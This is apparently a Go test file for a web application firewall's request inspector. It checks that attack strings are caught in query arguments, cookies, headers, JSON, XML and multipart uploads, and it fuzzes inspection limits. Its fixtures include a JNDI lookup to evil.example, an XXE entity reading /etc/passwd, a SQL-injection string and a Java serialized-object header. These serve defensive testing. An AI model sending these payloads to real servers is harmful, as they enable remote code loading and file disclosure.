package inspect

import (
	"github.com/portcullis-waf/portcullis/config"
	"net/http/httptest"
	"strings"
	"testing"
)

// TestExtraction: each part of a request is judged under its variable
// name, and fixed-shape protocol headers only when they leave their shape.
func TestExtraction(t *testing.T) {
	in := New(Limits{})
	attack := "${jndi:ldap://evil.example/a}"
	for _, tt := range []struct {
		name, target, ctype, body string
		headers                   [][2]string
		variable                  string // "" : nothing found
	}{
		{"query", "/?q=" + attack, "", "", nil, "ARGS:q"},
		{"arg name", "/?" + attack + "=1", "", "", nil, "ARGS_NAMES:" + attack},
		{"path segment", "/a/" + attack + "/b", "", "", nil, "REQUEST_FILENAME"},
		{"cookie", "/", "", "", [][2]string{{"Cookie", "s=" + attack}}, "REQUEST_COOKIES:s"},
		{"custom header", "/", "", "", [][2]string{{"X-Trace", attack}}, "REQUEST_HEADERS:X-Trace"},
		{"protocol header out of shape", "/", "", "", [][2]string{{"Accept-Language", attack}}, "REQUEST_HEADERS:Accept-Language"},
		{"protocol header in shape", "/", "", "", [][2]string{{"Accept-Language", "en-US,en;q=0.9"}}, ""},
		{"form", "/", "application/x-www-form-urlencoded", "a=1&b=" + strings.ReplaceAll(attack, "$", "%24"), nil, "ARGS:b"},
		{"json", "/", "application/json", `{"user":{"bio":"` + attack + `"}}`, nil, "JSON:user.bio"},
		{"ndjson", "/", "application/x-ndjson", "{\"a\":1}\n{\"m\":\"" + attack + "\"}\n", nil, "JSON:m"},
		{"xml", "/", "application/xml", "<r><note>" + attack + "</note></r>", nil, "XML:/r/note"},
		{"multipart field", "/", "multipart/form-data; boundary=B", "--B\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\n" + attack + "\r\n--B--\r\n", nil, "ARGS:f"},
		{"uploaded object stream", "/", "multipart/form-data; boundary=B", "--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"state.bin\"\r\nContent-Type: application/octet-stream\r\n\r\n\xac\xed\x00\x05\x73\x7d\x00\x00\x00\x01\x00\x1ajava.util.Map\r\n--B--\r\n", nil, "FILES_CONTENT:f"},
		{"uploaded text file", "/", "multipart/form-data; boundary=B", "--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"notes.txt\"\r\nContent-Type: text/plain\r\n\r\nJava streams start with AC ED 00 05 (rO0AB in base64).\r\n--B--\r\n", nil, ""},
		{"text body", "/", "text/plain", attack, nil, "REQUEST_BODY"},
		{"binary run", "/", "application/x-protobuf", "\x0a\x02\x08\x01\x12" + attack + "\x00\x01", nil, "REQUEST_BODY"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			r := httptest.NewRequest("POST", "http://x"+tt.target, nil)
			r.Header.Set("Content-Type", tt.ctype)
			for _, h := range tt.headers {
				r.Header.Set(h[0], h[1])
			}
			res := in.Request(r, Body{Data: []byte(tt.body), Limit: 1 << 20}, Scope{Threshold: 70})
			switch {
			case tt.variable == "" && res.Blocking != nil:
				t.Fatalf("found %+v", *res.Blocking)
			case tt.variable != "" && (res.Blocking == nil || res.Blocking.Variable != tt.variable):
				t.Fatalf("blocking %+v, findings %+v; want %s", res.Blocking, res.Findings, tt.variable)
			}
		})
	}
}

// FuzzRequest: any query, header, content type and body is judged within
// the limits, never panics, and keeps bounded findings and evidence.
func FuzzRequest(f *testing.F) {
	f.Add("q=1", "application/json", `{"a":"b"}`, "x")
	f.Add("a=%zz", "multipart/form-data; boundary=b", "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../x\"\r\n\r\nz\r\n--b", "")
	f.Add("", "application/xml", `<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`, "")
	f.Add("x=1", "text/plain", "\x00\x01' OR 1=1--", "${jndi:x}")
	in := New(Limits{MaxValues: 64})
	f.Fuzz(func(t *testing.T, query, ctype, body, header string) {
		r := httptest.NewRequest("POST", "http://x/", nil)
		r.URL.RawQuery = query
		r.Header["Content-Type"] = []string{ctype}
		r.Header["X-Fuzz"] = []string{header}
		res := in.Request(r, Body{Data: []byte(body), Limit: 1 << 16}, Scope{Threshold: 70})
		if len(res.Findings) > 8 || res.Values > 64 {
			t.Fatalf("%d findings, %d values", len(res.Findings), res.Values)
		}
		for _, fd := range res.Findings {
			if len(fd.Evidence) > MaxEvidence {
				t.Fatalf("evidence of %d bytes", len(fd.Evidence))
			}
		}
	})
}

// TestEveryClassIsJudged: the inspector runs a detector for every class
// that config lets an exclusion name, and no other.
func TestEveryClassIsJudged(t *testing.T) {
	got := map[string]bool{}
	for _, c := range New(Limits{}).Detectors() {
		got[string(c)] = true
	}
	for _, c := range config.DetectionClasses {
		if !got[c] {
			t.Errorf("class %s has no detector in the inspector", c)
		}
		delete(got, c)
	}
	for c := range got {
		t.Errorf("detector class %s missing from config.DetectionClasses", c)
	}
}
